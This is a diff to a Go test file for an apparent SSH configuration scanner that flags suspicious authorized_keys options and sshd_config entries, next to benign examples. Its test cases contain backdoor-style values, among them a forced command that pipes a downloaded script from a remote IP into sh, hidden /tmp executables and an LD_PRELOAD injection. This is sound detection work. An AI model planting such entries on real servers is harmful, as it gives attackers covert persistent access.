@@ -85,10 +85,33 @@ func TestOddKeys(t *testing.T) {
 	}
 }
 
+func TestForced(t *testing.T) {
+	for _, tt := range []struct{ options, traits, programs string }{
+		{`command="curl -s http://203.0.113.77/i.sh|sh",no-pty`, "fetch,pipe_to_shell", "curl,sh"},
+		{`no-pty,command="/tmp/.k/x \"a, b\""`, "hidden_exec,temp_exec", "/tmp/.k/x"},
+		{`environment="LD_PRELOAD=/tmp/l.so"`, "preload_write", ""},
+		{`command="` + strings.Repeat("true; ", 2000) + `/tmp/x"`, "temp_exec", "true,/tmp/x"},
+		// What honest servers have.
+		{`command="echo 'Please login as the user \"debian\" rather than the user \"root\".';echo;sleep 10;exit 142"`, "", "sleep,exit"},
+		{`restrict,command="/usr/bin/rrsync -ro /srv/backup"`, "", "/usr/bin/rrsync"},
+		{`environment="LANG=C.UTF-8",from="10.0.0.1"`, "", ""},
+	} {
+		r := extract(t, "/root/.ssh/authorized_keys", []byte(tt.options+" ssh-ed25519 "+zeroKey+" a@b\n"))
+		if len(r) != 1 || r[0].Get("traits") != tt.traits || r[0].Get("programs") != tt.programs {
+			t.Errorf("%.80s: %v", tt.options, r)
+		}
+	}
+	for value, traits := range map[string]string{"ForceCommand /tmp/x": "temp_exec", "ForceCommand internal-sftp": "", "AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys %u": "", "AuthorizedKeysCommand /usr/lib/.k/keys": "hidden_exec", "AuthorizedKeysFile /tmp/keys": ""} {
+		if r := extract(t, "/etc/ssh/sshd_config", []byte(value+"\n")); len(r) != 1 || r[0].Get("traits") != traits {
+			t.Errorf("%s: %v", value, r)
+		}
+	}
+}
+
 func TestUsers(t *testing.T) {
 	for p, want := range map[string]string{
 		"/root/.ssh/authorized_keys": "root", "/home/deploy/.ssh/authorized_keys": "deploy", "/var/lib/postgresql/.ssh/authorized_keys2": "postgresql",
-		"/etc/ssh/authorized_keys/deploy": "deploy", "/etc/ssh/authorized_keys.d/root.keys": "root", "/.ssh/authorized_keys": "",
+		"/etc/ssh/authorized_keys/deploy": "deploy", "/etc/ssh/authorized_keys.d/root.keys": "root", "/etc/ssh/keys/deploy/authorized_keys": "deploy", "/.ssh/authorized_keys": "",
 	} {
 		if got := owner(p); got != want {
 			t.Errorf("%s: %q, want %q", p, got, want)
@@ -111,8 +134,8 @@ func TestConfig(t *testing.T) {
 		"4 sshd.option option=PermitRootLogin value=yes",
 		"5 sshd.option option=PasswordAuthentication value=no",
 		"8 sshd.option option=AuthorizedKeysFile value=.ssh/authorized_keys /etc/ssh/keys/%u",
-		"9 sshd.option option=Subsystem value=sftp /usr/lib/openssh/sftp-server",
-		"11 sshd.option option=ForceCommand value=/usr/bin/rrsync match=User backup",
+		"9 sshd.option option=Subsystem value=sftp /usr/lib/openssh/sftp-server programs=/usr/lib/openssh/sftp-server",
+		"11 sshd.option option=ForceCommand value=/usr/bin/rrsync match=User backup programs=/usr/bin/rrsync",
 		"13 sshd.option option=AllowUsers value=root deploy",
 	}
 	if d := cmp.Diff(want, got); d != "" {
